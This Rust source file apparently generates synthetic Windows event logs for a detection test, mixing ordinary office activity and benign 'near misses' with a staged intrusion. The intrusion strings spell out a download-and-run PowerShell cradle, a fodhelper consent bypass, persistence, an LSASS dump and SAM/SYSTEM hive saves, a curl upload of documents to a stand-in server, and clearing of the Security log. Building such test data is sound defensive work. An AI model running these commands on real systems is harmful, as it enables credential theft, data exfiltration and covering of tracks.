//! WS01: the workstation on which the invoice is opened.

use jiff::Timestamp;

use super::base64::utf16_base64;
use super::windows::{Log, Logon, NETWORK_SERVICE, Process, SYSTEM, Sysmon, User, at, ms};
use eqlipse_fleet::random::Random;

const COMPUTER: &str = "WS01.corp.example";
const ADDRESS: &str = "192.0.2.51";
/// The attacker's page and stager, and the implant's server.
const STAGER: &str = "198.51.100.23";
const SERVER: &str = "198.51.100.77";
const STAGER_NAME: &str = "cdn.invoice-portal.example";
const IMPLANT: &str = "C:\\Users\\Public\\Libraries\\wsync.exe";
const CRADLE: &str = "iex (irm https://cdn.invoice-portal.example/s)";

pub const MARA: User = User {
    domain: "CORP",
    name: "mara.lind",
    sid: "S-1-5-21-1104297311-2208594622-3312891933-1105",
    logon_id: 0x4_1f2a,
};

/// The processes that are there all day.
struct Desk {
    services: Process,
    explorer: Process,
    outlook: Process,
    firefox: Process,
    word: Process,
    svchost: Process,
    network: Process,
    lsass: Process,
    agent: Process,
}

impl Desk {
    fn new(sysmon: &mut Sysmon) -> Self {
        let mut running = |started, pid, image: &str, arguments: &str, user: &User| {
            sysmon.running(started, pid, image, &format!("\"{image}\"{arguments}"), user)
        };
        let office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
        Self {
            services: running("06:31:02.000", 688, "C:\\Windows\\System32\\services.exe", "", &SYSTEM),
            explorer: running("06:52:40.000", 5120, "C:\\Windows\\explorer.exe", "", &MARA),
            outlook: running("06:54:11.000", 6024, &format!("{office}\\OUTLOOK.EXE"), "", &MARA),
            firefox: running("06:55:20.000", 7312, "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "", &MARA),
            word: running("06:58:44.000", 8260, &format!("{office}\\WINWORD.EXE"), " /n", &MARA),
            svchost: running("06:31:09.000", 1340, "C:\\Windows\\System32\\svchost.exe", " -k netsvcs -p", &SYSTEM),
            network: running(
                "06:31:10.000",
                1492,
                "C:\\Windows\\System32\\svchost.exe",
                " -k NetworkService -p",
                &NETWORK_SERVICE,
            ),
            lsass: running("06:31:03.000", 712, "C:\\Windows\\System32\\lsass.exe", "", &SYSTEM),
            agent: running("06:32:30.000", 3388, "C:\\Program Files\\Fleet Agent\\agent.exe", " --service", &SYSTEM),
        }
    }
}

/// The three logs of the machine.
pub struct Ws01 {
    pub sysmon: Vec<u8>,
    pub powershell: Vec<u8>,
    pub security: Vec<u8>,
}

pub fn logs() -> Ws01 {
    let mut sysmon = Sysmon::new(COMPUTER, ADDRESS, 0x5a31_9c04, 48_211);
    let mut powershell = Log::powershell(COMPUTER, 3_020);
    let desk = Desk::new(&mut sysmon);
    ordinary_day(&mut sysmon, &desk);
    near_misses(&mut sysmon, &mut powershell, &desk);
    let stager = delivery(&mut sysmon, &mut powershell, &desk);
    let implant = foothold(&mut sysmon, &stager);
    let elevated = look_around_and_elevate(&mut sysmon, &desk, &implant);
    credentials(&mut sysmon, &desk, &elevated);
    collect_and_leave(&mut sysmon, &elevated);
    Ws01 { sysmon: sysmon.log.finish(), powershell: powershell.finish(), security: security() }
}

/// Office work: pages, documents, programs that come and go.
fn ordinary_day(sysmon: &mut Sysmon, desk: &Desk) {
    let mut random = Random::new(51);
    let mut time = at("06:56:00.000");
    while time < at("09:58:00.000") {
        match random.range(0, 10) {
            0..3 => page(sysmon, &mut random, desk, time),
            3..6 => program(sysmon, &mut random, desk, time),
            6..8 => document(sysmon, &mut random, desk, time),
            8 => setting(sysmon, &mut random, desk, time),
            _ => sysmon.access(time, &desk.svchost, &desk.lsass, 0x1000, SERVICE_TRACE),
        }
        time += ms(random.range(40_000, 165_000) as i64);
    }
}

const SERVICE_TRACE: &str = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d584|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|\
                             c:\\windows\\system32\\lsm.dll+f9d7|C:\\Windows\\System32\\RPCRT4.dll+77f83";

fn page(sysmon: &mut Sysmon, random: &mut Random, desk: &Desk, time: Timestamp) {
    let (name, address) = random.pick(&[
        ("www.example.com", "203.0.113.10"),
        ("news.example.org", "203.0.113.24"),
        ("mail.corp.example", "192.0.2.14"),
        ("wiki.corp.example", "192.0.2.15"),
        ("static.example.net", "203.0.113.61"),
        ("maps.example.com", "203.0.113.12"),
    ]);
    let process = if name.starts_with("mail") { &desk.outlook } else { &desk.firefox };
    sysmon.query(time, process, name, address);
    sysmon.connect(time + ms(40), process, address, 443);
    if random.range(0, 8) == 0 {
        sysmon.connect(time + ms(900), &desk.network, "192.0.2.10", 389);
    }
}

fn program(sysmon: &mut Sysmon, random: &mut Random, desk: &Desk, time: Timestamp) {
    let system = "C:\\Windows\\System32";
    let (parent, image, arguments) = match random.range(0, 6) {
        0 => (&desk.svchost, "backgroundTaskHost.exe", " -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"),
        1 => (&desk.svchost, "taskhostw.exe", ""),
        2 => (&desk.explorer, "notepad.exe", " C:\\Users\\mara.lind\\Documents\\list.txt"),
        3 => (&desk.svchost, "SearchProtocolHost.exe", " Global\\UsGthrFltPipeMssGthrPipe1"),
        4 => (&desk.services, "svchost.exe", " -k wsappx -p -s AppXSvc"),
        _ => (&desk.svchost, "dllhost.exe", " /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"),
    };
    let image = format!("{system}\\{image}");
    let process = sysmon.start(time, parent, &image, &format!("{image}{arguments}"));
    sysmon.end(time + ms(random.range(2_000, 25_000) as i64), &process);
}

fn document(sysmon: &mut Sysmon, random: &mut Random, desk: &Desk, time: Timestamp) {
    let number = random.range(100, 999);
    let (process, path) = match random.range(0, 4) {
        0 => (&desk.word, format!("C:\\Users\\mara.lind\\Documents\\~$quote {number}.docx")),
        1 => (&desk.outlook, format!("C:\\Users\\mara.lind\\AppData\\Local\\Temp\\Outlook Logging\\log{number}.etl")),
        2 => (&desk.firefox, format!("C:\\Users\\mara.lind\\Downloads\\price list {number}.pdf")),
        _ => (&desk.explorer, format!("C:\\Users\\mara.lind\\Pictures\\site visit {number}.jpg")),
    };
    sysmon.create_file(time, process, &path);
}

fn setting(sysmon: &mut Sysmon, random: &mut Random, desk: &Desk, time: Timestamp) {
    let hive = format!("HKU\\{}", MARA.sid);
    let current = "Software\\Microsoft\\Windows\\CurrentVersion";
    let (process, path, details) = match random.range(0, 3) {
        0 => {
            let path = "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime";
            (&desk.svchost, path.to_owned(), "QWORD (0x01dd2544-0x5c1e8f00)")
        }
        1 => (&desk.explorer, format!("{hive}\\{current}\\Explorer\\RecentDocs\\MRUListEx"), "Binary Data"),
        _ => {
            let path = "Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document 3\\Datetime";
            (&desk.word, format!("{hive}\\{path}"), "2026-09-15T08:02")
        }
    };
    sysmon.set_value(time, process, &path, details);
}

/// Work that looks like an attack at first glance and must not alert.
fn near_misses(sysmon: &mut Sysmon, powershell: &mut Log, desk: &Desk) {
    // A help page of an installed program: an HTML application without the network.
    let help = "C:\\Program Files\\Plan Viewer\\help\\start.hta";
    let mshta = "C:\\Windows\\System32\\mshta.exe";
    let page = sysmon.start(at("07:12:31.210"), &desk.explorer, mshta, &format!("\"{mshta}\" \"{help}\" "));
    sysmon.end(at("07:13:02.004"), &page);
    // The management agent sends encoded commands to PowerShell.
    let shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    for (clock, script) in [
        ("07:20:05.640", "Get-HotFix | Select-Object HotFixID | ConvertTo-Json"),
        ("08:20:05.655", "Get-PSDrive C | Select-Object Free | ConvertTo-Json"),
    ] {
        let command = format!("\"{shell}\" -NonInteractive -EncodedCommand {}", utf16_base64(script));
        let process = sysmon.start(at(clock), &desk.agent, shell, &command);
        powershell.script_block(at(clock) + ms(900), &process, script, "");
        powershell.command(at(clock) + ms(1_200), &process, "ConvertTo-Json", &[]);
        sysmon.end(at(clock) + ms(2_400), &process);
    }
    // The agent fetches a report to a file and runs nothing.
    let process = sysmon.start(at("07:40:05.300"), &desk.agent, shell, &format!("\"{shell}\" -File inventory.ps1"));
    let fetch = "Invoke-WebRequest -Uri https://fleet.corp.example/baseline.json -OutFile $env:TEMP\\baseline.json";
    let path = "C:\\Program Files\\Fleet Agent\\scripts\\inventory.ps1";
    powershell.script_block(at("07:40:06.120"), &process, fetch, path);
    let baseline = ("Uri", "https://fleet.corp.example/baseline.json");
    powershell.command(at("07:40:06.440"), &process, "Invoke-WebRequest", &[baseline]);
    powershell.command(at("07:40:07.015"), &process, "ConvertFrom-Json", &[]);
    sysmon.connect(at("07:40:06.480"), &process, "192.0.2.5", 443);
    // OneDrive's own updater enters itself into Run.
    let drive = "C:\\Users\\mara.lind\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe";
    let updater = sysmon.start(at("07:31:44.020"), &desk.explorer, drive, &format!("\"{drive}\" /background"));
    let run = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive", MARA.sid);
    sysmon.set_value(at("07:31:46.310"), &updater, &run, &format!("\"{drive}\" /background"));
    // The help desk looks at an account and an address.
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let console = sysmon.start(at("07:51:20.900"), &desk.explorer, cmd, &format!("\"{cmd}\" "));
    for (clock, program, line) in [
        ("07:51:24.100", "whoami.exe", "whoami"),
        ("07:51:33.700", "ipconfig.exe", "ipconfig  /all"),
        ("07:51:52.250", "net.exe", "net  user mara.lind /domain"),
    ] {
        sysmon.start(at(clock), &console, &format!("C:\\Windows\\System32\\{program}"), line);
    }
    // Defender reads LSASS, from its own code.
    let platform = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26070.5-0\\MsMpEng.exe";
    let defender = sysmon.running("06:31:20.000", 3120, platform, &format!("\"{platform}\""), &SYSTEM);
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d584|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|\
                 C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26070.5-0\\mpsvc.dll+1a5c40";
    sysmon.access(at("08:05:10.400"), &defender, &desk.lsass, 0x1410, trace);
}

/// 08:41: a page offers an invoice, and opening it runs PowerShell.
fn delivery(sysmon: &mut Sysmon, powershell: &mut Log, desk: &Desk) -> Process {
    let portal = "pay.invoice-portal.example";
    let attachment = "C:\\Users\\mara.lind\\Downloads\\Invoice_2209.hta";
    sysmon.query(at("08:41:07.112"), &desk.firefox, portal, STAGER);
    sysmon.connect(at("08:41:07.180"), &desk.firefox, STAGER, 443);
    sysmon.create_file(at("08:41:19.840"), &desk.firefox, attachment);

    let mshta = "C:\\Windows\\SysWOW64\\mshta.exe";
    let class = "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}";
    let page =
        sysmon.start(at("08:41:52.031"), &desk.explorer, mshta, &format!("\"{mshta}\" \"{attachment}\" {class}"));
    sysmon.query(at("08:41:53.504"), &page, STAGER_NAME, STAGER);
    sysmon.connect(at("08:41:53.560"), &page, STAGER, 443);

    let shell = "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe";
    let command = format!("\"{shell}\" -NoP -W Hidden -Enc {}", utf16_base64(CRADLE));
    let stager = sysmon.start(at("08:41:58.377"), &page, shell, &command);
    powershell.script_block(at("08:41:59.820"), &stager, CRADLE, "");
    powershell.command(
        at("08:42:03.911"),
        &stager,
        "Invoke-RestMethod",
        &[("Uri", "https://cdn.invoice-portal.example/s")],
    );
    let fetched = format!("$p='{IMPLANT}'; irm https://cdn.invoice-portal.example/w -OutFile $p; & $p");
    powershell.command(at("08:42:03.940"), &stager, "Invoke-Expression", &[("Command", &fetched)]);
    powershell.script_block(at("08:42:03.952"), &stager, &fetched, "");
    sysmon.query(at("08:42:02.640"), &stager, STAGER_NAME, STAGER);
    sysmon.connect(at("08:42:02.702"), &stager, STAGER, 443);
    sysmon.end(at("08:42:05.000"), &page);
    stager
}

/// 08:42: the implant is written, started, and entered into Run. It calls home once a minute.
fn foothold(sysmon: &mut Sysmon, stager: &Process) -> Process {
    sysmon.create_file(at("08:42:09.215"), stager, IMPLANT);
    let implant = sysmon.start(at("08:42:12.480"), stager, IMPLANT, &format!("\"{IMPLANT}\""));
    let run = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WSync", MARA.sid);
    sysmon.set_value(at("08:42:20.950"), stager, &run, IMPLANT);
    sysmon.end(at("08:42:24.117"), stager);
    for minute in 0..7 {
        sysmon.connect(at("08:42:31.300") + ms(minute * 60_000 + minute * 17), &implant, SERVER, 443);
    }
    implant
}

/// 08:44: who and where am I; then a way around the consent prompt.
fn look_around_and_elevate(sysmon: &mut Sysmon, desk: &Desk, implant: &Process) -> Process {
    let system = "C:\\Windows\\System32";
    let cmd = format!("{system}\\cmd.exe");
    let shell = sysmon.start(at("08:44:28.604"), implant, &cmd, &format!("{cmd} /Q"));
    for (clock, program, line) in [
        ("08:44:31.010", "whoami.exe", "whoami  /all"),
        ("08:44:38.442", "systeminfo.exe", "systeminfo"),
        ("08:44:51.730", "ipconfig.exe", "ipconfig  /all"),
        ("08:45:04.208", "net.exe", "net  group \"Domain Admins\" /domain"),
        ("08:45:20.911", "nltest.exe", "nltest  /dclist:corp.example"),
        ("08:45:41.377", "net.exe", "net  view \\\\SRV02"),
    ] {
        sysmon.start(at(clock), &shell, &format!("{system}\\{program}"), line);
    }
    let handler = format!("HKU\\{}_Classes\\ms-settings\\shell\\open\\command\\(Default)", MARA.sid);
    sysmon.set_value(at("08:47:02.118"), implant, &handler, IMPLANT);
    let helper = format!("{system}\\fodhelper.exe");
    let helper = sysmon.start_as(at("08:47:08.530"), &desk.explorer, &helper, &format!("\"{helper}\" "), &MARA, "High");
    let elevated = sysmon.start_as(at("08:47:09.020"), &helper, IMPLANT, &format!("\"{IMPLANT}\" "), &MARA, "High");
    let shell = sysmon.start_as(at("08:48:11.700"), &elevated, &cmd, &format!("{cmd} /Q"), &MARA, "High");
    let task = format!("schtasks  /create /tn \"Windows Sync\" /tr {IMPLANT} /sc onlogon /rl highest /f");
    sysmon.start_as(at("08:48:40.266"), &shell, &format!("{system}\\schtasks.exe"), &task, &MARA, "High");
    shell
}

/// 08:51: LSASS is dumped, and the local account hives are saved.
fn credentials(sysmon: &mut Sysmon, desk: &Desk, shell: &Process) {
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let dump = "C:\\Users\\Public\\Libraries\\mem.dmp";
    let line = format!("rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full", desk.lsass.pid);
    let dumper = sysmon.start_as(at("08:51:26.019"), shell, rundll, &line, &MARA, "High");
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d584|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|\
                 C:\\Windows\\System32\\comsvcs.dll+2f9a1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6df1";
    sysmon.access(at("08:51:26.340"), &dumper, &desk.lsass, 0x1f_ffff, trace);
    sysmon.create_file(at("08:51:26.402"), &dumper, dump);
    sysmon.end(at("08:51:29.870"), &dumper);
    for (clock, hive) in [("08:54:02.514", "SYSTEM"), ("08:54:11.090", "SAM")] {
        let line = format!("reg  save HKLM\\{hive} C:\\Users\\Public\\Libraries\\{}.bin", hive.to_lowercase());
        sysmon.start_as(at(clock), shell, "C:\\Windows\\System32\\reg.exe", &line, &MARA, "High");
    }
}

/// 08:58: documents are packed and sent away; 09:22: the Security log is cleared.
fn collect_and_leave(sysmon: &mut Sysmon, shell: &Process) {
    let packer = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let archive = "C:\\Users\\Public\\Libraries\\d.zip";
    let line = format!("powershell  -c \"Compress-Archive C:\\Users\\mara.lind\\Documents\\Contracts {archive}\"");
    let process = sysmon.start_as(at("08:58:10.440"), shell, packer, &line, &MARA, "High");
    sysmon.create_file(at("08:58:14.023"), &process, archive);
    sysmon.end(at("08:58:31.700"), &process);
    let curl = "C:\\Windows\\System32\\curl.exe";
    let line = format!("curl  -s -k -T {archive} https://{SERVER}/u/");
    let upload = sysmon.start_as(at("08:59:31.206"), shell, curl, &line, &MARA, "High");
    sysmon.connect(at("08:59:31.490"), &upload, SERVER, 443);
    sysmon.end(at("08:59:58.012"), &upload);
    let clear = "C:\\Windows\\System32\\wevtutil.exe";
    sysmon.start_as(at("09:22:47.330"), shell, clear, "wevtutil  cl Security", &MARA, "High");
}

/// What is left of the Security log: the clearing, then an hour of services and a screen unlocked.
fn security() -> Vec<u8> {
    let mut log = Log::security(COMPUTER, 211_840);
    log.cleared(at("09:22:47.512"), &MARA);
    let mut random = Random::new(52);
    let mut time = at("09:24:10.000");
    while time < at("10:00:00.000") {
        let service = User { logon_id: 0x3e7, ..SYSTEM };
        let logon = Logon {
            user: &service,
            kind: 5,
            process: "Advapi  ",
            package: "Negotiate",
            workstation: "-",
            address: "-",
            port: 0,
        };
        log.logon(time, &logon);
        log.privileges(time + ms(1), &service);
        time += ms(random.range(60_000, 240_000) as i64);
    }
    log.finish()
}
